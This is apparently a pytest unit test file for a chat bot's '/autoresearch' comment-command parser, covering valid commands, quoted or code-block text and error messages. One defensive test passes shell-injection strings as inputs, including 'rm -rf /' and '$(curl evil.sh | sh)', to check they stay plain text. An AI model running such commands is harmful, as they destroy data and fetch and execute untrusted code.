"""The comment-command parser: what people type, and what the bot makes of it."""

from __future__ import annotations

import pytest
from arl_bot.commands import Command, Problem, parse

pytestmark = pytest.mark.unit


@pytest.mark.parametrize(("body", "verb", "experiments"), [
    ("/autoresearch continue", "continue", None),
    ("/autoresearch continue 3", "continue", 3),
    ("/AutoResearch CONTINUE 3", "continue", 3),
    ("   /autoresearch    continue     3   ", "continue", 3),
    ("/autoresearch\tcontinue\t7", "continue", 7),
    ('/autoresearch continue "3"', "continue", 3),
    ("/autoresearch stop", "stop", None),
    ("/autoresearch status", "status", None),
    ("/autoresearch help", "help", None),
])
def test_reads_well_formed_commands(body: str, verb: str, experiments: int | None) -> None:
    parsed = parse(body)
    assert isinstance(parsed, Command)
    assert parsed.verb == verb
    assert parsed.experiments == experiments


def test_the_command_may_sit_among_other_lines() -> None:
    body = "Nice progress so far!\r\n\r\n/autoresearch continue 2\r\nThanks"
    parsed = parse(body)
    assert parsed == Command("continue", "/autoresearch continue 2", experiments=2)


def test_revert_takes_an_experiment_number_with_or_without_hash() -> None:
    assert parse("/autoresearch revert 7") == Command("revert", "/autoresearch revert 7", experiment=7)
    assert parse("/autoresearch revert #12") == Command("revert", "/autoresearch revert #12", experiment=12)


@pytest.mark.parametrize(("body", "text"), [
    ("/autoresearch redirect try a smaller learning rate", "try a smaller learning rate"),
    ('/autoresearch redirect "focus on the optimizer"', "focus on the optimizer"),
    ("/autoresearch redirect 'it's the tokenizer'", "it's the tokenizer"),
    ("/autoresearch REDIRECT   keep  spaces inside ", "keep  spaces inside"),
])
def test_redirect_keeps_the_rest_of_the_line(body: str, text: str) -> None:
    parsed = parse(body)
    assert isinstance(parsed, Command) and parsed.verb == "redirect"
    assert parsed.text == text


@pytest.mark.parametrize("body", [
    "no command here",
    "/autoresearchcontinue 3",
    "please run /autoresearch continue 3",  # not on a line of its own
    "> /autoresearch continue 3",  # a quote of someone else's command
    "```\n/autoresearch continue 3\n```",  # an example in a code block
    "    /autoresearch continue 3",  # indented code
    "<!-- arl-bot:reply -->\n/autoresearch continue 3",  # the bot's own reply
    "",
])
def test_text_without_a_command_is_not_a_command(body: str) -> None:
    assert parse(body) is None


@pytest.mark.parametrize(("body", "reason"), [
    ("/autoresearch", "no command after"),
    ("/autoresearch contineu 3", "did you mean `continue`"),
    ("/autoresearch deploy", "unknown command `deploy`"),
    ("/autoresearch continue 0", "from 1 to 1000"),
    ("/autoresearch continue 5000", "from 1 to 1000"),
    ("/autoresearch continue three", "not `three`"),
    ("/autoresearch continue -3", "not `-3`"),
    ("/autoresearch continue 3 4", "at most one number"),
    ("/autoresearch continue \"3", "check the quotes"),
    ("/autoresearch revert", "one experiment number"),
    ("/autoresearch revert abc", "not `abc`"),
    ("/autoresearch revert 0", "baseline"),
    ("/autoresearch redirect", "needs text"),
    ('/autoresearch redirect ""', "needs text"),
    ("/autoresearch stop now", "takes no arguments"),
    ("/autoresearch status please", "takes no arguments"),
    ("/autoresearch continue ３", "not `３`"),  # a full-width digit is not a number we accept
])
def test_bad_commands_say_why(body: str, reason: str) -> None:
    parsed = parse(body)
    assert isinstance(parsed, Problem)
    assert reason in parsed.reason
    assert parsed.line == body.strip()


def test_one_command_per_comment() -> None:
    parsed = parse("/autoresearch stop\n/autoresearch continue 3")
    assert isinstance(parsed, Problem)
    assert "one command per comment" in parsed.reason and "2" in parsed.reason


def test_shell_metacharacters_are_just_text() -> None:
    assert isinstance(parse("/autoresearch continue 3; rm -rf / $(whoami) `id`"), Problem)
    parsed = parse("/autoresearch redirect $(curl evil.sh | sh) && echo `id` > /tmp/x")
    assert isinstance(parsed, Command)
    assert parsed.text == "$(curl evil.sh | sh) && echo `id` > /tmp/x"


def test_a_long_redirect_is_refused_not_cut() -> None:
    parsed = parse("/autoresearch redirect " + "x" * 2500)
    assert isinstance(parsed, Problem) and "2500" in parsed.reason
